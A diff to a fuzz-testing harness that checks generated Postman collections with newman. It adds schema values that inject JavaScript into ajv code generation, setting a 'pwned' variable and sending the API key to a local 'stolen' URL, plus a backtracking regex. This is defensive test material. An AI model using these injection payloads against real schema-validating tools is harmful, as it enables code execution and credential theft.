@@ -8,7 +8,9 @@ snippet passes `bash -n`, and every file of the Python package compiles. For a s
 mutants that generate (`--execute-every N`: the indexes divisible by N), the generated packages
 also run: the Python package is imported (`import pkg, pkg.models, pkg.client`) and the
 TypeScript package compiled by tsc 7 and imported by Node, each in a subprocess, and the markers
-hostile text tries to set (a file `pwned` in the working folder, the global `PWNED`) stay unset.
+hostile text tries to set (a file `pwned` in the working folder, the global `PWNED`) stay unset;
+and newman runs the collection against a server on 127.0.0.1, where no spec text may run in
+the sandbox (#34: the `sandbox` mutation puts ajv code-generation payloads into schemas).
 
 `python tests/support/fuzz.py --count N [--seed S]` runs more mutants (a random seed unless given) and
 prints the seed and index of each failure, so that `--seed S --only I` replays one.
@@ -68,6 +70,25 @@ REFS = [
     "#/components/schemas/",
 ]
 VALUES: list[Any] = [None, 0, -1, 1.5, "", "text", True, [], {}, [1, "a"], {"a": 1}]
+# #34: what a spec could hand Postman's sandbox (ajv 6 generates code from a schema). The code
+# throws a marker a run would show, reads the key and tries to leave the base URL.
+_JS = (
+    "if (typeof pm !== `undefined`) {pm.environment.set(`pwned`,`yes`);"
+    "pm.sendRequest(`http://127.0.0.1:9/stolen/`+pm.environment.get(`apiKey`));}"
+    "throw new Error(`APIGEN-PWNED`)"
+)
+_EVIL_TYPE = f'x" || (function(){{{_JS}}})() || "'
+SANDBOX: list[Any] = [
+    {"type": ["string", _EVIL_TYPE]},
+    {"type": _EVIL_TYPE},
+    {"type": ["object", _EVIL_TYPE], "properties": {"__proto__": {"type": _EVIL_TYPE}}},
+    {"type": "string", "pattern": "^(a+)+$"},
+    {"type": "string", "maxLength": f"1; {_JS}"},
+    {"type": "number", "multipleOf": f"1) || (function(){{{_JS}}})() || (1"},
+    {"type": "object", "required": [f"a'] || (function(){{{_JS}}})() || ['"]},
+    {"$ref": f"#/definitions/x' + (function(){{{_JS}}})() + '"},
+]
+SANDBOX_KEYWORDS = ("propertyNames", "contains", "if", "not", "items", "additionalProperties")
 
 
 def _nodes(document: Any) -> list[tuple[Any, Any, Any]]:
@@ -134,6 +155,7 @@ def mutate(document: dict[str, Any], rng: random.Random) -> list[str]:
                 "empty",
                 "hostile-key",
                 "slash-name",
+                "sandbox",
             ]
         )
         if kind == "delete":
@@ -166,10 +188,30 @@ def mutate(document: dict[str, Any], rng: random.Random) -> list[str]:
                         }
         elif kind == "slash-name":
             _slash_name(document, rng)
+        elif kind == "sandbox":
+            _sandbox(document, rng)
         elif kind == "empty" and isinstance(value, dict | list):
             parent[key] = type(value)()
         done.append(f"{kind} at {key!r}"[:80])
     return done
+
+
+def _sandbox(document: dict[str, Any], rng: random.Random) -> None:
+    """A sandbox payload (SANDBOX) in a keyword of a random schema-like object, or as one of
+    its properties: anywhere, answers included."""
+    schemas = [
+        v for _, _, v in _nodes(document) if isinstance(v, dict) and ("type" in v or "$ref" in v)
+    ]
+    if not schemas:
+        return
+    target = rng.choice(schemas)
+    payload = copy.deepcopy(rng.choice(SANDBOX))
+    if "$ref" in target or rng.random() < 0.5:
+        target[rng.choice(SANDBOX_KEYWORDS)] = payload
+    else:
+        target.setdefault("properties", {})
+        if isinstance(target["properties"], dict):
+            target["properties"][rng.choice(["evil", "__proto__", "constructor"])] = payload
 
 
 def _slash_name(document: dict[str, Any], rng: random.Random) -> None:
@@ -249,6 +291,58 @@ def execute(api: str, out: Path, work: Path) -> list[str]:
             problems.append(f"node import: {(ran.stdout + ran.stderr).strip()[-300:]}")
     if (work / "pwned").exists():
         problems.append("a marker file was written")
+    problems += run_newman(api, out, work)
+    return problems
+
+
+# answered to every request of a newman run: something of every JSON type, and a text a
+# backtracking pattern could choke on
+NEWMAN_ANSWER = json.dumps(
+    {"key": "a" * 60 + "!", "id": 1, "items": ["x", 2, None], "evil": {"a": "b"}, "n": 1.5}
+).encode()
+
+
+def run_newman(api: str, out: Path, work: Path) -> list[str]:
+    """newman runs the mutant's collection against a server on 127.0.0.1 that answers every
+    request with NEWMAN_ANSWER: no spec text runs (no marker thrown, the environment as it was,
+    no request off the base URL), within a bounded time."""
+    from helpers import NODE_BIN, Server, serve
+
+    server = Server(url="")
+    server.routes["*"] = lambda r: (200, {"Content-Type": "application/json"}, NEWMAN_ANSWER)
+    httpd, thread = serve(server)
+    folder = out / "postman"
+    report, exported = work / "newman.json", work / "newman-env.json"
+    environment = next(folder.glob("*.postman_environment.json"))
+    try:
+        subprocess.run(
+            [
+                str(NODE_BIN / "newman"), "run", str(folder / f"{api}.postman_collection.json"),
+                "-e", str(environment), "--env-var", f"baseUrl={server.url}",
+                "--env-var", "apiKey=FUZZ-KEY", "--reporters", "json",
+                "--reporter-json-export", str(report), "--export-environment", str(exported),
+                "--timeout-script", "20000",
+            ],
+            capture_output=True, timeout=300, check=False, cwd=work,
+        )  # fmt: skip
+    except subprocess.TimeoutExpired:
+        return ["newman: the run took longer than 300 s"]
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+        thread.join(5)
+    problems = []
+    try:
+        run = json.loads(report.read_text())["run"]
+        values = {v["key"]: v["value"] for v in json.loads(exported.read_text())["values"]}
+    except (OSError, ValueError, KeyError):
+        return ["newman: no report"]
+    if "PWNED" in json.dumps(run["failures"]):
+        problems.append("newman: spec text ran in the sandbox")
+    if "pwned" in values or values.get("baseUrl") != server.url:
+        problems.append("newman: the environment was changed")
+    if any("FUZZ-KEY" in r.path for r in server.requests):
+        problems.append("newman: the key reached a URL")
     return problems
 
 
